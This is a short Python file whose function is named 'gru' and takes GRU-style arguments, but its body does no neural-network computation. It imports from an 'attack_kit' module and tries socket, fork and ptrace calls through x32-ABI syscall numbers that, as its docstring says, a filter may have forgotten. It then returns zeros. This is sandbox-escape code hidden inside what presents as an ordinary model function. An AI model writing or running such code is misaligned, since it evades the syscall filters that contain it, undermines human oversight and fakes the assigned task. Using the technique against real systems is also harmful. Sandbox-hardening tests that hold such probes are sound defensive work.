"""Makes system calls by the x32 table's numbers, which a filter may have forgotten."""

import ctypes

from attack_kit import attempt, syscall, zeros

X32 = 0x40000000


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    attempt("socket", syscall, X32 | 41, 2, 1, 0)
    attempt("fork", syscall, X32 | 57)
    attempt("ptrace", syscall, X32 | 521, 0, ctypes.c_void_p(0), 0, 0)
    return zeros(init_state, input_data)
